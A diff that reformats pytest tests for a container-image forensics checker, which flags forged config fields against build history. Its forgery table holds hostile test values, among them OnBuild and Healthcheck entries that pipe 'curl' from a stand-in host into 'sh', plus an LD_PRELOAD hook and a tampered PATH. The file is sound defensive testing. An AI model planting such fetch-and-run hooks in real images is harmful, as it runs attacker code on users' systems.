@@ -14,8 +14,8 @@ import tarfile
 from pathlib import Path
 
 import pytest
-
 from conftest import CORPUS, analyzed
+
 from forensics.archive.scan import InputError
 from forensics.history import config as cc
 from forensics.history import config_words as words
@@ -100,18 +100,21 @@ def forge(src: Path, dst: Path, edit) -> None:
 def _set(key, value):
     def edit(cfg):
         cfg[key] = value
+
     return edit
 
 
 def _env_add(item, first=False):
     def edit(cfg):
         cfg["Env"] = [item] + cfg["Env"] if first else cfg["Env"] + [item]
+
     return edit
 
 
 def _env_replace(name, value):
     def edit(cfg):
         cfg["Env"] = [f"{name}={value}" if e.split("=", 1)[0] == name else e for e in cfg["Env"]]
+
     return edit
 
 
@@ -135,8 +138,11 @@ FORGERIES = {
     "entrypoint-wrapper": (_set("Entrypoint", WRAPPER), "Entrypoint", "critical"),
     "cmd-reverse-shell": (_set("Cmd", REVERSE), "Cmd", "critical"),
     "env-ld-preload": (_env_add("LD_PRELOAD=/usr/lib/libhook.so"), "Env", "critical"),
-    "env-path-prepended": (_env_replace("PATH", "/tmp/.x:/srv/app/bin:/usr/local/bin:/usr/bin:/bin"), "Env",
-                           "critical"),
+    "env-path-prepended": (
+        _env_replace("PATH", "/tmp/.x:/srv/app/bin:/usr/local/bin:/usr/bin:/bin"),
+        "Env",
+        "critical",
+    ),
     "env-value-changed": (_env_replace("APP_HOME", "/opt/other"), "Env", "high"),
     "user-root": (_set("User", "0:0"), "User", "critical"),
     "user-emptied": (_set("User", ""), "User", "critical"),
@@ -146,8 +152,11 @@ FORGERIES = {
     "volume-dropped": (_volume_drop, "Volumes", "high"),
     "stopsignal": (_set("StopSignal", "SIGKILL"), "StopSignal", "high"),
     "onbuild-trigger": (_set("OnBuild", ["RUN curl -s http://203.0.113.9/o | sh"]), "OnBuild", "high"),
-    "healthcheck-added-or-changed": (_set("Healthcheck", {"Test": ["CMD-SHELL", "curl -s http://203.0.113.9/b|sh"]}),
-                                     "Healthcheck", "high"),
+    "healthcheck-added-or-changed": (
+        _set("Healthcheck", {"Test": ["CMD-SHELL", "curl -s http://203.0.113.9/b|sh"]}),
+        "Healthcheck",
+        "high",
+    ),
 }
 
 
@@ -217,8 +226,11 @@ def test_entrypoint_without_cmd_clears_the_base_cmd(tmp_path):
 def _corpus_clean():
     if not CORPUS.is_dir():
         return []
-    return sorted(p for p in CORPUS.rglob("*.tar") if "/integrity/" not in str(p) and "forged" not in p.name
-                  and "pkgfile" not in p.name)
+    return sorted(
+        p
+        for p in CORPUS.rglob("*.tar")
+        if "/integrity/" not in str(p) and "forged" not in p.name and "pkgfile" not in p.name
+    )
 
 
 @pytest.mark.parametrize("sample", _corpus_clean(), ids=lambda p: p.name)
@@ -235,14 +247,18 @@ def test_clean_corpus_has_no_config_mismatch(sample):
 
 def _image(config: dict, lines: list[str], comments: list[str] | None = None) -> Image:
     comments = comments or [""] * len(lines)
-    hist = [HistoryEntry(index=i, created_by=t, comment=c or None, empty_layer=not t.startswith(("COPY", "ADD")))
-            for i, (t, c) in enumerate(zip(lines, comments))]
+    hist = [
+        HistoryEntry(index=i, created_by=t, comment=c or None, empty_layer=not t.startswith(("COPY", "ADD")))
+        for i, (t, c) in enumerate(zip(lines, comments))
+    ]
     return Image(index=0, history=hist, config_text=json.dumps({"config": config, "history": []}))
 
 
 def _check(config, lines, comments=None):
-    return [(f.evidence.get("key"), f.evidence.get("name"), f.severity.value)
-            for f in cc.check_config(_image(config, lines, comments))]
+    return [
+        (f.evidence.get("key"), f.evidence.get("name"), f.severity.value)
+        for f in cc.check_config(_image(config, lines, comments))
+    ]
 
 
 def test_go_quoted_lists():
@@ -261,11 +277,22 @@ def test_processed_env_with_spaces_is_split_by_the_config():
 
 
 def test_buildah_lines_are_expanded_as_written():
-    lines = ["/bin/sh -c #(nop) COPY file:1 in / ", "/bin/sh -c #(nop) ARG V",
-             "/bin/sh -c #(nop) ENV HOME2=/h P=/x:$PATH VER=$V LIT=\\$HOME Q=\"a b\"",
-             "/bin/sh -c #(nop) ENV D=${HOME2}/d E=${NOPE:-dflt}"]
-    env = ["PATH=" + cc.DEFAULT_PATH, "HOME2=/h", "P=/x:" + cc.DEFAULT_PATH, "VER=9.1", "LIT=$HOME", "Q=a b",
-           "D=/h/d", "E=dflt"]
+    lines = [
+        "/bin/sh -c #(nop) COPY file:1 in / ",
+        "/bin/sh -c #(nop) ARG V",
+        '/bin/sh -c #(nop) ENV HOME2=/h P=/x:$PATH VER=$V LIT=\\$HOME Q="a b"',
+        "/bin/sh -c #(nop) ENV D=${HOME2}/d E=${NOPE:-dflt}",
+    ]
+    env = [
+        "PATH=" + cc.DEFAULT_PATH,
+        "HOME2=/h",
+        "P=/x:" + cc.DEFAULT_PATH,
+        "VER=9.1",
+        "LIT=$HOME",
+        "Q=a b",
+        "D=/h/d",
+        "E=dflt",
+    ]
     assert _check({"Env": env}, lines) == []
     env[2] = "P=/evil:/x:" + cc.DEFAULT_PATH
     assert _check({"Env": env}, lines) == [("Env", "P", "high")]
@@ -275,8 +302,12 @@ def test_healthcheck_records():
     q = '/bin/sh -c #(nop)  HEALTHCHECK &{["CMD-SHELL" "curl -f http://localhost/"] "30s" "3s" "0s" \'\\x02\'}'
     v = "HEALTHCHECK {Test:[CMD-SHELL curl -f http://localhost/] Interval:30s Timeout:3s StartPeriod:0s Retries:2}"
     raw = "/bin/sh -c #(nop) HEALTHCHECK --interval=30s --timeout=3s --retries=2 CMD curl -f http://localhost/"
-    good = {"Test": ["CMD-SHELL", "curl -f http://localhost/"], "Interval": 30_000_000_000,
-            "Timeout": 3_000_000_000, "Retries": 2}
+    good = {
+        "Test": ["CMD-SHELL", "curl -f http://localhost/"],
+        "Interval": 30_000_000_000,
+        "Timeout": 3_000_000_000,
+        "Retries": 2,
+    }
     for line, comment in ((q, ""), (v, "buildkit.dockerfile.v0"), (raw, "FROM x")):
         hist = ["/bin/sh -c #(nop) ADD file:1 in / ", line]
         assert _check({"Healthcheck": good}, hist, ["", comment]) == [], line
@@ -285,24 +316,42 @@ def test_healthcheck_records():
 
 
 def test_ports_and_volumes_forms():
-    for line in ("/bin/sh -c #(nop)  EXPOSE 8080 53/udp 7000-7001", "EXPOSE [53/udp 7000/tcp 7001/tcp 8080/tcp]",
-                 "EXPOSE map[53/udp:{} 7000/tcp:{} 7001/tcp:{} 8080/tcp:{}]"):
+    for line in (
+        "/bin/sh -c #(nop)  EXPOSE 8080 53/udp 7000-7001",
+        "EXPOSE [53/udp 7000/tcp 7001/tcp 8080/tcp]",
+        "EXPOSE map[53/udp:{} 7000/tcp:{} 7001/tcp:{} 8080/tcp:{}]",
+    ):
         ports = {"8080/tcp": {}, "53/udp": {}, "7000-7001/tcp": {}}
-        assert _check({"ExposedPorts": ports}, ["/bin/sh -c #(nop) ADD file:1 in / ", line], ["", "buildkit.dockerfile.v0"]) == []
+        assert (
+            _check(
+                {"ExposedPorts": ports}, ["/bin/sh -c #(nop) ADD file:1 in / ", line], ["", "buildkit.dockerfile.v0"]
+            )
+            == []
+        )
     assert _check({"Volumes": {"/a": {}, "/b": {}}}, ["/bin/sh -c #(nop) ADD file:1 in / ", "VOLUME [/a /b]"]) == []
-    assert _check({"Volumes": {"/a": {}}}, ["/bin/sh -c #(nop) ADD file:1 in / ", '/bin/sh -c #(nop) VOLUME ["/a", "/b"]']) == [
-        ("Volumes", "/b", "high")]
+    assert _check(
+        {"Volumes": {"/a": {}}}, ["/bin/sh -c #(nop) ADD file:1 in / ", '/bin/sh -c #(nop) VOLUME ["/a", "/b"]']
+    ) == [("Volumes", "/b", "high")]
 
 
 def test_builder_defaults_are_not_alarms():
     # BuildKit FROM scratch: WorkingDir "/" and the default PATH; buildah's identity label.
-    assert _check({"Env": ["PATH=" + cc.DEFAULT_PATH], "WorkingDir": "/", "Cmd": ["/hello"]},
-                  ["COPY hello / # buildkit", 'CMD ["/hello"]'], ["buildkit.dockerfile.v0"] * 2) == []
-    assert _check({"Labels": {"io.buildah.version": "1.28.2"}}, ["/bin/sh -c #(nop) COPY file:1 in / "],
-                  ["FROM scratch"]) == []
+    assert (
+        _check(
+            {"Env": ["PATH=" + cc.DEFAULT_PATH], "WorkingDir": "/", "Cmd": ["/hello"]},
+            ["COPY hello / # buildkit", 'CMD ["/hello"]'],
+            ["buildkit.dockerfile.v0"] * 2,
+        )
+        == []
+    )
+    assert (
+        _check({"Labels": {"io.buildah.version": "1.28.2"}}, ["/bin/sh -c #(nop) COPY file:1 in / "], ["FROM scratch"])
+        == []
+    )
     classic = ["/bin/sh -c #(nop) COPY file:1 in / ", '/bin/sh -c #(nop)  CMD ["x"]']
     assert _check({"Labels": {"io.buildah.version": "1.28.2"}, "Cmd": ["x"]}, classic) == [
-        ("Labels", "io.buildah.version", "high")]
+        ("Labels", "io.buildah.version", "high")
+    ]
 
 
 def test_no_metadata_steps_is_not_checkable():
@@ -311,19 +360,29 @@ def test_no_metadata_steps_is_not_checkable():
 
 
 def test_onbuild_is_not_applied():
-    assert _check({"Env": ["ONB=1"]}, ["/bin/sh -c #(nop) ADD file:1 in / ", "/bin/sh -c #(nop)  ONBUILD ENV ONB=1"]) == [
-        ("Env", "ONB", "high")]
+    assert _check(
+        {"Env": ["ONB=1"]}, ["/bin/sh -c #(nop) ADD file:1 in / ", "/bin/sh -c #(nop)  ONBUILD ENV ONB=1"]
+    ) == [("Env", "ONB", "high")]
 
 
-@pytest.mark.parametrize("config_text", [
-    "not json", "[]", '{"config": []}', '{"config": {"Env": "x", "Labels": [1], "ExposedPorts": 5, "Cmd": {"a": 1},'
-    ' "User": 7, "Healthcheck": [], "Volumes": "x"}}', '{"config": {"Env": [1, null, "=", "A"], "Labels": {"a": 1}}}',
-])
+@pytest.mark.parametrize(
+    "config_text",
+    [
+        "not json",
+        "[]",
+        '{"config": []}',
+        '{"config": {"Env": "x", "Labels": [1], "ExposedPorts": 5, "Cmd": {"a": 1},'
+        ' "User": 7, "Healthcheck": [], "Volumes": "x"}}',
+        '{"config": {"Env": [1, null, "=", "A"], "Labels": {"a": 1}}}',
+    ],
+)
 def test_hostile_configs_never_raise(config_text):
-    hist = [HistoryEntry(index=0, created_by="/bin/sh -c #(nop) ADD file:1 in / "),
-            HistoryEntry(index=1, created_by='/bin/sh -c #(nop)  CMD ["x" \x00 "\\u', empty_layer=True),
-            HistoryEntry(index=2, created_by="HEALTHCHECK &{[" + "[" * 5000, empty_layer=True),
-            HistoryEntry(index=3, created_by="ENV " + "A=${" * 2000, empty_layer=True)]
+    hist = [
+        HistoryEntry(index=0, created_by="/bin/sh -c #(nop) ADD file:1 in / "),
+        HistoryEntry(index=1, created_by='/bin/sh -c #(nop)  CMD ["x" \x00 "\\u', empty_layer=True),
+        HistoryEntry(index=2, created_by="HEALTHCHECK &{[" + "[" * 5000, empty_layer=True),
+        HistoryEntry(index=3, created_by="ENV " + "A=${" * 2000, empty_layer=True),
+    ]
     img = Image(index=0, history=hist, config_text=config_text)
     for f in cc.check_config(img):
         assert f.code == "history.effect-mismatch"
@@ -356,8 +415,11 @@ def test_hostile_patterns_are_answered():
 
 def test_one_space_nop_lines_read_both_ways():
     # buildah writes the line as written; a pre-17 classic builder wrote processed values with one space.
-    hist = ["/bin/sh -c #(nop) ADD file:1 in / ", "/bin/sh -c #(nop) ENV A=x y B=\"q r\"",
-            '/bin/sh -c #(nop) HEALTHCHECK &{["CMD" "true"] "1s" "0s" "0s" \'\\x00\'}']
+    hist = [
+        "/bin/sh -c #(nop) ADD file:1 in / ",
+        '/bin/sh -c #(nop) ENV A=x y B="q r"',
+        '/bin/sh -c #(nop) HEALTHCHECK &{["CMD" "true"] "1s" "0s" "0s" \'\\x00\'}',
+    ]
     health = {"Test": ["CMD", "true"], "Interval": 1_000_000_000}
     assert _check({"Env": ["A=x y", "B=q r"], "Healthcheck": health}, hist) == []
     assert _check({"Env": ["A=x", "B=q r"], "Healthcheck": health}, hist) == []
@@ -372,8 +434,10 @@ def test_path_severity():
 
 def test_squashed_history_without_its_base_is_not_held_to_an_empty_start():
     # buildah --squash keeps only the last stage's entries; one layer, owned by the last.
-    hist = [HistoryEntry(index=0, created_by="/bin/sh -c #(nop) ENV A=1", empty_layer=True),
-            HistoryEntry(index=1, created_by="/bin/sh -c #(nop) COPY file:1 in /x ", comment="FROM localhost/base:1")]
+    hist = [
+        HistoryEntry(index=0, created_by="/bin/sh -c #(nop) ENV A=1", empty_layer=True),
+        HistoryEntry(index=1, created_by="/bin/sh -c #(nop) COPY file:1 in /x ", comment="FROM localhost/base:1"),
+    ]
     img = Image(index=0, history=hist, config_text=json.dumps({"config": {"Env": ["A=1", "FROM_BASE=1"]}}))
     assert cc.check_config(img) == []
     img.config_text = json.dumps({"config": {"Env": ["A=2", "FROM_BASE=1"]}})
@@ -382,8 +446,12 @@ def test_squashed_history_without_its_base_is_not_held_to_an_empty_start():
 
 def test_names_from_the_input_reach_the_terminal_escaped():
     hist = ["/bin/sh -c #(nop) ADD file:1 in / ", '/bin/sh -c #(nop) LABEL "a\nb"="c"', '/bin/sh -c #(nop)  CMD ["x"]']
-    config = {"Cmd": ["x"], "Labels": {"evil\x1b[2J": "1", "a\nb": "d"}, "Env": ["X\x07=1"],
-              "ExposedPorts": {"80/tcp\r": {}}}
+    config = {
+        "Cmd": ["x"],
+        "Labels": {"evil\x1b[2J": "1", "a\nb": "d"},
+        "Env": ["X\x07=1"],
+        "ExposedPorts": {"80/tcp\r": {}},
+    }
     findings = cc.check_config(_image(config, hist))
     assert {f.evidence["key"] for f in findings} == {"Labels", "Env", "ExposedPorts"}
     for f in findings:
@@ -392,8 +460,14 @@ def test_names_from_the_input_reach_the_terminal_escaped():
 
 def test_nop_marker_inside_a_buildkit_value_is_a_value():
     hist = ["COPY a /a # buildkit", "ENV X=a #(nop) ENV Y=b"]
-    assert _check({"Env": ["PATH=" + cc.DEFAULT_PATH, "X=a #(nop) ENV Y=b"], "WorkingDir": "/"}, hist,
-                  ["buildkit.dockerfile.v0"] * 2) == []
+    assert (
+        _check(
+            {"Env": ["PATH=" + cc.DEFAULT_PATH, "X=a #(nop) ENV Y=b"], "WorkingDir": "/"},
+            hist,
+            ["buildkit.dockerfile.v0"] * 2,
+        )
+        == []
+    )
 
 
 def test_buildah_history_marks_are_not_values():
